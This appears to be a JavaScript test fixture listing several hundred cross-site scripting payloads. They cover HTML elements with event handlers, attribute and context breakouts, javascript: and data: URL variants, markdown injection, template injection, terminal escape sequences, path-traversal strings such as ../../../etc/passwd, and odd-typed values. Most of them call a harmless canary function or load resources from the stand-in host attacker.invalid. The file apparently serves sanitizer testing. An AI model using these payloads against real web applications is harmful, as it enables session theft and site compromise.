// Values that try to run a script, send a request, or break out of where they are shown. Made for these tests.

const run = "canary(1)";
const far = "http://attacker.invalid";

/** Elements that run a script, or send a request, when a browser parses them. */
const elements = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=${far}/a.js></script>`, `<script type=module>${run}</script>`,
  `<script\n>${run}</script\n>`, `<script/x>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror=${run}>`, `<img/src=x/onerror=${run}>`, `<IMG SRC=x ONERROR=${run}>`, `<img src=x onerror="${run}"`, `<img src=x:x onerror=${run}//`,
  `<img src=${far}/i.png>`, `<img srcset="${far}/i.png 1x">`, `<image src=x onerror=${run}>`, `<img src=x oNeRrOr\n=${run}>`, `<img src=x onerror\t=${run}>`,
  `<img src=x onerror=&#99;anary(1)>`, `<img src=x onerror=\u0000${run}>`, `<img\u000csrc=x\u000conerror=${run}>`, `<img src=x onerror=\`${run}\`>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><a href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`, `<svg><image href="${far}/i.png"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><desc><script>${run}</script></desc></svg>`, `<svg><title><style><!--</style><img src=x onerror=${run}>--></title></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`, `<math href="javascript:${run}">x</math>`, `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<iframe src="javascript:parent.${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe src=${far}></iframe>`, `<iframe onload=${run}></iframe>`,
  `<iframe src="data:text/html,<script>parent.${run}</script>">`, `<object data="javascript:${run}"></object>`, `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src="javascript:${run}">`, `<embed src=${far}/x.swf>`, `<applet code=x>`, `<frameset onload=${run}>`, `<frame src=javascript:${run}>`, `<portal src=${far}>`, `<fencedframe src=${far}>`,
  `<body onload=${run}>`, `<body onpageshow=${run}>`, `<body background=${far}/b.png>`, `<html onmouseover=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`, `<button autofocus onfocus=${run}>x</button>`, `<keygen autofocus onfocus=${run}>`, `<a autofocus tabindex=0 onfocus=${run}>x</a>`,
  `<div contenteditable autofocus onfocus=${run}>`, `<details open ontoggle=${run}>x</details>`, `<dialog open onclose=${run}>`, `<video src=x onerror=${run}>`, `<video><source onerror=${run}></video>`,
  `<video poster=${far}/p.png>`, `<video src=${far}/v.mp4 autoplay>`, `<audio src=x onerror=${run}>`, `<audio src=${far}/a.mp3 autoplay>`, `<track src=${far}/t.vtt default>`, `<picture><source srcset=${far}/i.png><img></picture>`,
  `<marquee onstart=${run}>x</marquee>`, `<marquee loop=1 onfinish=${run}>x</marquee>`, `<meter onmouseover=${run}>`, `<style>@import "${far}/s.css";</style>`, `<style>*{background:url(${far}/b.png)}</style>`,
  `<style onload=${run}></style>`, `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${run}>x</b>`, `<b style="background:url(${far}/b.png)">x</b>`, `<b style="color:red" onclick=${run}>x</b>`,
  `<b ontransitionend=${run} style="transition:all 1s">`, `<link rel=stylesheet href=${far}/s.css>`, `<link rel=prefetch href=${far}>`, `<link rel=preload as=script href=${far}/a.js>`, `<link rel=dns-prefetch href=${far}>`,
  `<link rel=preconnect href=${far}>`, `<link rel=icon href=${far}/i.ico>`, `<link rel=manifest href=${far}>`, `<link rel=modulepreload href=${far}/m.js>`, `<link rel=prerender href=${far}>`, `<link onload=${run} rel=stylesheet href=data:text/css,>`,
  `<meta http-equiv=refresh content="0;url=${far}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta http-equiv="Content-Security-Policy" content="img-src *">`, `<meta http-equiv=set-cookie content=a=b>`,
  `<base href=${far}/>`, `<base target=_blank>`, `<form action=${far}><input name=a><button>x</button></form>`, `<form action=javascript:${run}><input type=submit autofocus>`, `<form id=index><input name=textContent></form>`,
  `<button formaction=javascript:${run}>x</button>`, `<isindex type=image src=1 onerror=${run}>`, `<a href=javascript:${run}>x</a>`, `<a href=${far} ping=${far}/ping>x</a>`, `<area href=javascript:${run}>`,
  `<template><script>${run}</script></template>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<slot onslotchange=${run}></slot>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<plaintext onmouseover=${run}>`, `<listing>&lt;img onerror=${run}&gt;</listing>`, `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<title><img src=x onerror=${run}></title>`, `<textarea><img title="</textarea><img src=x onerror=${run}>">`, `<table background=${far}/t.png>`, `<td background=${far}/t.png>`, `<bgsound src=${far}/b.wav>`, `<basefont onload=${run}>`,
  `<x onclick=${run} id=x tabindex=1 onfocus=${run} autofocus>`, `<x onpointerenter=${run}>x</x>`, `<x oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`, `<b popover onbeforetoggle=${run}>x</b>`,
  `<input type=image src=${far}/i.png>`, `<input onsearch=${run} type=search>`, `<object type=image/svg+xml data=${far}/x.svg>`, `<param name=src value=${far}>`, `<script type=speculationrules>{"prefetch":[{"urls":["${far}"]}]}</script>`,
  `<script type=importmap>{"imports":{"a":"${far}"}}</script>`, `<svg><filter><feImage href=${far}/i.png></filter></svg>`, `<svg><animate attributeName=href values=javascript:${run}>`, `<xss style=behavior:url(${far})>`,
];

/** What may come before a value to leave the place that it is shown in. */
const breakouts = [
  `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `" onmouseover="${run}`, `' onmouseover='${run}`, `" autofocus onfocus="${run}" x="`, `' autofocus onfocus='${run}' x='`, ` onfocus=${run} autofocus tabindex=0 `,
  `\` onfocus=${run} autofocus`, `\n onfocus=${run} autofocus`, `/onfocus=${run}//`, `></pre><script>${run}</script>`, `</pre></details></article><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`,
  `</script><script>${run}</script>`, `</script ><script>${run}</script>`, `</SCRIPT><svg onload=${run}>`, `<!--</script><script>${run}</script>`, `<!--<script>`, `--><script>${run}</script>`, `--!><script>${run}</script>`, `]]><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`, `<!DOCTYPE x [<!ENTITY a "b">]>`, `</textarea><script>${run}</script>`, `</noscript><script>${run}</script>`, `</template><script>${run}</script>`,
  `</main></body></html><script>${run}</script>`, `</select><script>${run}</script>`, `</option></select><img src=x onerror=${run}>`, `</svg><script>${run}</script>`, `</math><script>${run}</script>`, `</iframe><script>${run}</script>`,
  `"}</script><script>${run}</script>`, `"};${run};//`, `';${run};//`, `\`;${run};//`, `\${${run}}`, `{{${run}}}`, `{{constructor.constructor('${run}')()}}`, `<%= ${run} %>`, `#{${run}}`, `\\";${run};//`, `\\u003cimg src=x onerror=${run}\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `&amp;lt;img src=x onerror=${run}&amp;gt;`, `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u00bcscript\u00be${run}\u00bc/script\u00be`, `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `\u001b[31m<img src=x onerror=${run}>\u001b[0m`, `\u001b]8;;javascript:${run}\u0007click\u001b]8;;\u0007`,
  `\u001b]8;;${far}"onmouseover=${run}\u0007click\u001b]8;;\u0007`, `\u001b]8;;data:text/html,<script>${run}</script>\u001b\\click\u001b]8;;\u001b\\`, `\u001b]0;</title><script>${run}</script>\u0007`, `\u001b[38;2;1;2;3"onclick=${run}m<b>x`, `\u001bP<script>${run}</script>\u001b\\`,
  `\u001e<script>${run}</script>`, `a\u001e</article><script>${run}</script>\u001eb`, `\u0000<script>${run}</script>`, `<\u0000script>${run}</script>`, `\u2028<script>${run}</script>`, `\u202e<script>${run}</script>`, `\ufeff<script>${run}</script>`,
  `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `../../../etc/passwd`, `file:///etc/passwd`, `data:text/html,<script>${run}</script>`, `javascript:${run}`, `index`, `pane`, `tree-all`, `$(id)`, `$&$1$\`$'`,
  `-${run}-`, `*/${run}/*`, `<`, `>`, `&`, `"`, `'`, `<a`, `</`, `<!`, `&#`, `<<<<<<<<`, `\ud800<img src=x onerror=${run}>`, `${"<b>".repeat(600)}<img src=x onerror=${run}>`, `${"a".repeat(5000)}"><img src=x onerror=${run}>`,
];

/** Addresses that run a script or lead out of the page. */
const schemes = [
  `javascript:${run}`, `JavaScript:${run}`, `jAvAsCrIpT:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `java\rscript:${run}`, ` javascript:${run}`, `\u0001javascript:${run}`, `\u001fjavascript:${run}`, `\u00a0javascript:${run}`, `\u200bjavascript:${run}`, `\ufeffjavascript:${run}`,
  `javascript&colon;${run}`, `javascript&#58;${run}`, `javascript&#x3a;${run}`, `&#106;avascript:${run}`, `&#x6A&#x61;vascript:${run}`, `java&Tab;script:${run}`, `java&NewLine;script:${run}`, `javascript%3A${run}`, `javascript\\:${run}`, `javascript://%0a${run}`, `javascript:/*--></script>*/${run}`,
  `vbscript:${run}`, `livescript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=`, `data:image/svg+xml,<svg onload=${run}>`, `data:application/xhtml+xml,<script>${run}</script>`, `DATA:text/html,x`, `blob:null/x`, `file:///etc/passwd`, `filesystem:x`,
  `view-source:javascript:${run}`, `feed:javascript:${run}`, `jar:javascript:${run}`, `mailto:x"onclick=${run}`, `http://x" onclick="${run}`, `http://x' onclick='${run}`, `https://x/><script>${run}</script>`, `//attacker.invalid/x`, `\\\\attacker.invalid\\x`, `/\\attacker.invalid`, `http:attacker.invalid`, `about:blank`, `chrome://settings`, `intent://x`, `ms-word:x`, `x:x`, `#" onclick="${run}`, `?"><script>${run}</script>`,
];

/** Markdown that a renderer may turn into something that runs. */
export const markdown = [
  ...schemes.flatMap((url) => [`[link](${url})`, `[link](<${url}>)`]),
  ...schemes.slice(0, 30).flatMap((url) => [`![image](${url})`, `[ref]: ${url}\n\n[ref]`, `<${url}>`]),
  `![remote](${far}/i.png)`, `![remote](https://attacker.invalid/i.png)`, `![remote](//attacker.invalid/i.png)`, `[![x](${far}/i.png)](javascript:${run})`, `![x](x"onerror="${run})`, `![x" onerror="${run}](x)`, `![x](x 'title" onerror="${run}')`,
  `[x](x "title\\" onmouseover=\\"${run}")`, `[x](http://a "\\"><script>${run}</script>")`, `[<script>${run}</script>](http://a)`, `[x]("onclick=${run})`, `\`\`\`"><script>${run}</script>\nx\n\`\`\``, `\`\`\`js" onmouseover="${run}\nx\n\`\`\``, `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `~~~<img src=x onerror=${run}>\n~~~`, `\`<script>${run}</script>\``, `\`\`\`\n</code></pre><script>${run}</script>\n\`\`\``, `    </pre><script>${run}</script>`, `# <img src=x onerror=${run}>`, `> <script>${run}</script>`, `- <script>${run}</script>`, `1. <svg onload=${run}>`,
  `| <img src=x onerror=${run}> | b |\n|---|---|\n| <script>${run}</script> | "><svg onload=${run}> |`, `**<img src=x onerror=${run}>**`, `~~<script>${run}</script>~~`, `<div>\n\n<script>${run}</script>\n\n</div>`, `<details><summary>x</summary>\n\n<img src=x onerror=${run}>\n\n</details>`,
  `<!-- --><script>${run}</script>`, `<!-- <img src=x onerror=${run}>`, `<?php ${run} ?>`, `<![CDATA[ <script>${run}</script> ]]>`, `[^1]\n\n[^1]: <script>${run}</script>`, `[x][y]\n\n[y]: javascript:${run} "title"`, `[javascript:${run}]`, `www.attacker.invalid"onclick="${run}`, `https://attacker.invalid/"onmouseover="${run}`,
  `<https://attacker.invalid/"onmouseover="${run}>`, `<x@y.z"onclick="${run}>`, `[a](javascript:${run} 'b')`, `[a]( javascript:${run} )`, `[a](\u0001javascript:${run})`, `\\<script>${run}\\</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `[a](&#x6A;avascript:${run})`, `[a](javas&#99;ript:${run})`, `[a\n](javascript:${run})`,
  `<a href="javascript:${run}">x</a>`, `<img src="x" onerror="${run}">`, `${"> ".repeat(300)}<img src=x onerror=${run}>`, `${"- ".repeat(300)}<script>${run}</script>`, `${"[".repeat(500)}x${"](javascript:canary(1))".repeat(500)}`, `${"*".repeat(2000)}x`, `$$<img src=x onerror=${run}>$$`, `:::<script>${run}</script>`, `{{<script>${run}</script>}}`, `---\ntitle: <script>${run}</script>\n---`,
  `<style>@import '${far}/x.css'</style>`, `<link rel="stylesheet" href="${far}">`, `- [x](javascript:${run})\n  - ![y](${far}/y.png)`, `![x][i]\n\n[i]: ${far}/ref.png`, `<picture><img src=${far}/p.png></picture>`, `Setext <script>${run}</script>\n===`, `a<br onclick=${run}>b`, `\u202e[x](javascript:${run})`,
];

/** Values of a type that no field has. */
const wrongTypes = [
  null, true, false, 0, -1, 1.5, 1e308, [], {}, [null], [`<img src=x onerror=${run}>`], { toString: `<img src=x onerror=${run}>` }, { text: `<script>${run}</script>` }, { html: `<script>${run}</script>` }, [[`"><script>${run}</script>`]],
  { length: 5 }, { __html: `<img src=x onerror=${run}>` }, { "<img src=x onerror=canary(1)>": `<img src=x onerror=${run}>` }, [{ type: "text", text: `<script>${run}</script>` }], { type: "text", text: `<script>${run}</script>` }, { content: `<svg onload=${run}>` },
  { type: "image", mimeType: `"><script>${run}</script>`, data: `"><script>${run}</script>` }, { toJSON: 1 }, { then: 1 }, { valueOf: "x", nodeType: 1, innerHTML: `<img src=x onerror=${run}>` },
];

const texts = [...new Set([...elements, ...breakouts, ...schemes, ...markdown])];
export const values = [...texts, ...wrongTypes];
